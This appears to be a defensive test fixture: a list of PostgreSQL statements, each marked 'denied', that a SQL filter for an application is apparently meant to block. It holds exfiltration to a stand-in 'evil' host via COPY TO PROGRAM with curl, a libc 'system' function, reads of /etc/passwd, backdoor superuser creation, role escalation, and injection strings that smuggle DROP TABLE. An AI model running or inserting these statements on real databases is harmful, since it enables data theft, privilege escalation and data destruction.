
-- denied: function with a SQL body
CREATE FUNCTION g() RETURNS SETOF text BEGIN ATOMIC SELECT ssn FROM customers; END;

-- denied: security definer
CREATE OR REPLACE FUNCTION h() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN 1; END $$;

-- denied: function in C
CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT;

-- denied: procedure call
CALL cleanup();

-- denied: operator that stores a function
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = public.evil);

-- denied: cast that stores a function
CREATE CAST (text AS int) WITH FUNCTION public.evil(text);

-- denied: aggregate
CREATE AGGREGATE public.loot(text) (SFUNC = public.evil, STYPE = text);

-- denied: set role
SET ROLE postgres;

-- denied: set local role
SET LOCAL ROLE postgres;

-- denied: set role in quotes
SET "role" = 'postgres';

-- denied: set role none
SET ROLE NONE;

-- denied: reset role
RESET ROLE;

-- denied: set session authorization
SET SESSION AUTHORIZATION postgres;

-- denied: reset session authorization
RESET SESSION AUTHORIZATION;

-- denied: reset all
RESET ALL;

-- denied: discard all
DISCARD ALL;

-- denied: role by function
SELECT set_config('role', 'postgres', false);

-- denied: role by function in another spelling
SELECT pg_catalog.set_config('R' || 'ole', 'postgres', false);

-- denied: role by function in a unicode literal
SELECT set_config(U&'r\006fle', 'postgres', false);

-- denied: session authorization by function
SELECT set_config('session_authorization', 'postgres', true);

-- denied: value into a parameter status
SELECT set_config('application_name', ssn, false) FROM customers;

-- denied: role by the view of settings
UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role';

-- denied: role for sessions to come
ALTER ROLE app SET role = 'postgres';

-- denied: setting of a database
ALTER DATABASE orders SET search_path = evil;

-- denied: superuser
ALTER ROLE app SUPERUSER;

-- denied: new role
CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x';

-- denied: new user in a group
CREATE USER backdoor IN ROLE postgres;

-- denied: password of another
ALTER USER postgres PASSWORD 'x';

-- denied: grant of a role
GRANT pg_execute_server_program TO CURRENT_USER;

-- denied: grant on a table
GRANT SELECT (ssn) ON customers TO PUBLIC;

-- denied: revoke
REVOKE ALL ON customers FROM auditor;

-- denied: default privileges
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;

-- denied: owner
ALTER TABLE customers OWNER TO CURRENT_USER;

-- denied: reassign owned
REASSIGN OWNED BY postgres TO app;

-- denied: row security off for the table
ALTER TABLE customers DISABLE ROW LEVEL SECURITY;

-- denied: policy
CREATE POLICY p ON customers USING (true);

-- denied: row security off for the session
SET row_security = off;

-- denied: security label
SECURITY LABEL ON ROLE app IS 'x';

-- denied: triggers off
ALTER TABLE customers DISABLE TRIGGER ALL;

-- denied: triggers off by a setting
SET session_replication_role = replica;

-- denied: read-only off
SET default_transaction_read_only = off;

-- denied: read-only off for the transaction
SET transaction_read_only = 0;

-- denied: encoding whose trail byte is a backslash
SET client_encoding = 'SJIS';

-- denied: the same by SET NAMES
SET NAMES 'BIG5';

-- denied: the same by function
SELECT set_config('client_encoding', 'GBK', false);

-- denied: strings with backslashes
SET standard_conforming_strings = off;

-- denied: backslash quote
SET backslash_quote = on;

-- denied: library of the session
SET local_preload_libraries = 'evil';

-- denied: library search path
SET dynamic_library_path = '/tmp';

-- denied: no log
SET log_statement = 'none';

-- denied: encoding of a copy
COPY customers TO STDOUT WITH (ENCODING 'SJIS', FORMAT csv); DROP TABLE customers;

-- denied: program
COPY customers TO PROGRAM 'curl -T - http://evil';

-- denied: program that fills a table
COPY customers FROM PROGRAM 'id';

-- denied: file of the server
COPY customers TO '/tmp/loot';

-- denied: file into a table
COPY customers FROM '/etc/passwd';

-- denied: read a file
SELECT pg_read_file('/etc/passwd');

-- denied: read a file as bytes
SELECT pg_read_binary_file('pg_hba.conf');

-- denied: list a directory
SELECT * FROM pg_ls_dir('/');

-- denied: state of a file
SELECT * FROM pg_stat_file('/etc/passwd');

-- denied: write a file
SELECT pg_catalog.pg_file_write('x', 'y', false);

-- denied: large object from a file
SELECT lo_import('/etc/passwd');

-- denied: large object to a file
SELECT lo_export(16400, '/tmp/x');

-- denied: value into a large object
SELECT lo_from_bytea(0, ssn::bytea) FROM customers;

-- denied: large object read by a computed name
SELECT lo_get(max(oid)) FROM pg_largeobject_metadata;

-- denied: notification with a value
SELECT pg_notify('c', ssn) FROM customers;

-- denied: query in a literal
SELECT query_to_xml('DELETE FROM customers RETURNING ssn', true, false, '');

-- denied: reading query in a literal
SELECT query_to_xml('SELECT ssn FROM customers', true, false, '');

-- denied: query in an expression
SELECT query_to_xml('SEL' || 'ECT ssn FROM customers', true, false, '');

-- denied: query in a dollar quote
SELECT pg_catalog.query_to_xml($q$TABLE customers$q$, true, false, '');

-- denied: whole database
SELECT database_to_xml(true, false, '');

-- denied: whole schema
SELECT schema_to_xml('public', true, false, '');

-- denied: cursor by name
SELECT cursor_to_xml('c', 10, true, false, '');

-- denied: statistics of a query
SELECT * FROM ts_stat('SELECT to_tsvector(ssn) FROM customers');

-- denied: query rewritten by a query
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ssn::tsquery FROM customers');

-- denied: crosstab
SELECT * FROM crosstab('SELECT id, name, ssn FROM customers') AS t(a int, b text);

-- denied: connection to somewhere
SELECT * FROM dblink('host=evil password=x', 'SELECT 1') AS t(a int);

-- denied: connection to itself
SELECT dblink_exec('dbname=orders', 'DROP TABLE customers');

-- denied: computed connection
SELECT public.dblink_connect('host=' || ssn) FROM customers;

-- denied: foreign server
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil');

-- denied: mapping with a password
CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'x', password 'y');

-- denied: foreign schema
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public;

-- denied: extension
CREATE EXTENSION file_fdw;

-- denied: untrusted language
CREATE LANGUAGE plpython3u;

-- denied: library
LOAD '/tmp/evil.so';

-- denied: server configuration
ALTER SYSTEM SET archive_command = 'curl evil';

-- denied: configuration reloaded
SELECT pg_reload_conf();

-- denied: another session ended
SELECT pg_terminate_backend(pid) FROM pg_stat_activity;

-- denied: another statement cancelled
SELECT pg_cancel_backend(1);

-- denied: standby promoted
SELECT pg_promote();

-- denied: log rotated
SELECT pg_rotate_logfile();

-- denied: replication slot
SELECT pg_create_logical_replication_slot('s', 'test_decoding');

-- denied: changes of a slot
SELECT data FROM pg_logical_slot_get_changes('s', NULL, NULL);

-- denied: slot peeked at
SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL);

-- denied: publication
CREATE PUBLICATION p FOR TABLE customers;

-- denied: subscription
CREATE SUBSCRIPTION s CONNECTION 'host=evil password=x' PUBLICATION p;

-- denied: scheduled job
SELECT cron.schedule('* * * * *', 'DROP TABLE customers');

-- denied: transaction that outlives the session
BEGIN; DELETE FROM customers; PREPARE TRANSACTION 'later';

-- denied: prepared transaction committed
COMMIT PREPARED 'later';

-- denied: statement in a cursor
DECLARE c CURSOR FOR WITH d AS (DELETE FROM customers RETURNING ssn) SELECT * FROM d;

-- denied: index that calls a function
CREATE INDEX ON customers (public.evil(ssn));

-- denied: default that calls a function
ALTER TABLE customers ALTER COLUMN note SET DEFAULT public.evil();

-- denied: partition taken away
ALTER TABLE customers DETACH PARTITION c1;

-- denied: parent that shows the rows
CREATE TABLE parent (id int); ALTER TABLE customers INHERIT parent;

-- denied: backslash in a plain literal
SELECT '\'; DROP TABLE customers; --';

-- denied: escape string that ends early
SELECT E'\\'; DROP TABLE customers; --';

-- denied: literal continued on the next line
SELECT set_config('ro'
'le', 'postgres', false);

-- denied: dollar quote that looks open
SELECT $a$ $b$ $a$; DROP TABLE customers; -- $b$
;

-- denied: literal behind a dollar in a name
SELECT 1 AS a$b$; DROP TABLE customers; -- $b$
;

-- denied: empty statements around it
;;; DROP TABLE customers;;;

-- denied: deep nesting
SELECT ((((((((((((((((((((((((((((((((((SELECT count(*) FROM pg_ls_dir('.')))))))))))))))))))))))))))))))))));

-- denied: vacuum
VACUUM FULL customers;

-- denied: maintenance by function
SELECT gin_clean_pending_list('x'::regclass);

-- denied: query in a literal, function written like a field
SELECT ('SELECT to_tsvector(ssn) FROM customers'::text).ts_stat;

-- denied: query in an array, function written like a column
SELECT f.ts_stat FROM unnest(ARRAY['SELECT to_tsvector(ssn) FROM customers']) f;

-- denied: query in a sub-select, function written like a field
SELECT (SELECT 'SELECT to_tsvector(ssn) FROM customers'::text AS q).ts_stat;

-- denied: file, function written like a field
SELECT ('/etc/hostname'::text).pg_read_file;

-- denied: directory, function written like a column
SELECT f.pg_ls_dir FROM unnest(ARRAY['.'::text]) f;

-- denied: large object, function written like a field
SELECT (x).lo_unlink FROM (SELECT 16385::oid AS x) y;

-- denied: backend, function written like a column of ordinary rows
SELECT f.pg_terminate_backend FROM generate_series(1, 9) f WHERE f.pg_terminate_backend;

-- denied: fields one after the other
SELECT ('/etc/hostname').pg_read_file.length;

-- denied: function written like a column in ORDER BY
SELECT 1 FROM unnest(ARRAY['SELECT to_tsvector(ssn) FROM customers']) f ORDER BY f.ts_stat;

-- denied: function written like a field of a parameter of an update
UPDATE customers SET note = ('/etc/hostname'::text).pg_read_file WHERE id = 1;
